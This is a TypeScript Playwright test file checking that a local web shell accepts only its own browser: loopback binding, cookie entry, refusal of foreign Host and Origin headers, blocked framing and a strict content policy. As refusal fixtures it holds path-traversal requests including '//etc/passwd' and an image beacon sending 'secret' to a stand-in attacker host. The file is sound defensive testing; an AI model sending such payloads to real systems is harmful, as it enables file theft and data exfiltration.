/** Who may use the built web shell, and who may not. */
import { expect } from '@playwright/test';
import { request, type IncomingHttpHeaders } from 'node:http';
import { WebSocket } from 'ws';
import { test as base } from './temporary-folder.ts';
import { WebShell } from './web-shell.ts';

const test = base.extend<{ shell: WebShell }>({
  shell: async ({ folder }, use) => {
    const shell = await WebShell.start(folder);
    await use(shell);
    await shell.stop();
  },
});

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** A plain request, with every header and path as given; browsers and `fetch` would mend them. */
function send(shell: WebShell, path: string, headers: Record<string, string> = {}): Promise<Answer> {
  const { hostname, port, host } = new URL(shell.origin);
  return new Promise((resolve, reject) => {
    request({ hostname, port, path, headers: { host, ...headers } }, (response) => {
      let body = '';
      response.setEncoding('utf8').on('data', (text: string) => (body += text));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body }));
    })
      .on('error', reject)
      .end();
  });
}

function upgrade(shell: WebShell, headers: Record<string, string>): Promise<number> {
  const socket = new WebSocket(`${shell.origin.replace('http', 'ws')}/bridge`, { headers });
  return new Promise((resolve, reject) => {
    socket.once('open', () => {
      socket.terminate();
      resolve(101);
    });
    socket.once('unexpected-response', (_, response) => resolve(response.statusCode ?? 0));
    socket.once('error', reject);
  });
}

async function enter(shell: WebShell): Promise<string> {
  const { headers } = await send(shell, shell.entryUrl.slice(shell.origin.length));
  return headers['set-cookie']?.[0]?.split(';')[0] ?? '';
}

test('listens on the loopback address alone', async ({ shell }) => {
  expect(new URL(shell.origin).hostname).toBe('127.0.0.1');
  const port = Number(new URL(shell.origin).port);
  // Another address of the loopback network reaches what listens on all addresses.
  await expect(
    new Promise((resolve, reject) => {
      request({ host: '127.0.0.2', port }, resolve).on('error', reject).end();
    }),
  ).rejects.toThrow(/ECONNREFUSED/);
});

test('lets a browser in once by its token, then by its cookie, also after a reload', async ({
  shell,
  page,
  browser,
}) => {
  await page.goto(shell.entryUrl);
  await expect(page).toHaveURL(`${shell.origin}/`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const cookies = await page.context().cookies();
  expect(cookies).toEqual([expect.objectContaining({ httpOnly: true, sameSite: 'Strict', domain: '127.0.0.1' })]);
  expect(await page.evaluate(() => document.cookie)).toBe('');
  await page.reload();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const other = await browser.newContext();
  const stranger = await other.newPage();
  const answers = [await stranger.goto(shell.entryUrl), await stranger.goto(shell.origin)];
  expect(answers.map((answer) => answer?.status())).toEqual([403, 403]);
  await other.close();
});

test('refuses a foreign Host, a foreign Origin and a missing cookie, for pages and for the bridge', async ({
  shell,
}) => {
  const cookie = await enter(shell);
  const own = { cookie, origin: shell.origin };
  const port = new URL(shell.origin).port;
  const wrong: Record<string, string>[] = [
    { ...own, host: `sarvi.evil.example:${port}` },
    { ...own, host: `localhost:${port}` },
    { ...own, origin: 'https://evil.example' },
    { ...own, origin: 'null' },
    { origin: shell.origin },
    { ...own, cookie: `${cookie}x` },
  ];
  for (const headers of wrong) {
    expect((await send(shell, '/', headers)).status, JSON.stringify(headers)).toBe(403);
    expect(await upgrade(shell, headers), JSON.stringify(headers)).toBe(403);
  }
  expect(await upgrade(shell, { cookie })).toBe(403);
  expect([(await send(shell, '/', own)).status, await upgrade(shell, own)]).toEqual([200, 101]);
});

test('serves nothing but the renderer', async ({ shell }) => {
  const cookie = await enter(shell);
  for (const path of [
    '/../main/web.js',
    '/../../package.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '/assets/../../main/web.js',
    '//etc/passwd',
    '/config.json',
  ]) {
    expect((await send(shell, path, { cookie })).status, path).toBe(404);
  }
});

test('keeps a page of another site from using the bridge or framing the app', async ({ shell, page, context }) => {
  await page.goto(shell.entryUrl);
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${shell.origin}/"></iframe>` }),
  );
  const evil = await context.newPage();
  await evil.goto('https://evil.example/');
  const opened = await evil.evaluate(
    (url) =>
      new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }).catch(() => false),
    `${shell.origin.replace('http', 'ws')}/bridge`,
  );
  expect(opened).toBe(false);
  const frame = evil.frames()[1];
  expect(frame?.url()).toBe('chrome-error://chromewebdata/');
});

test('obeys its policy: no remote picture, no inline script', async ({ shell, page }) => {
  await page.goto(shell.entryUrl);
  const requested: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    requested.push(route.request().url());
    return route.abort();
  });
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran = true';
    document.body.append(script);
    const image = new Image();
    image.src = 'https://evil.example/?text=secret';
    await new Promise((resolve) => (image.onerror = resolve));
    return 'ran' in globalThis;
  });
  expect([ran, requested]).toEqual([false, []]);
});
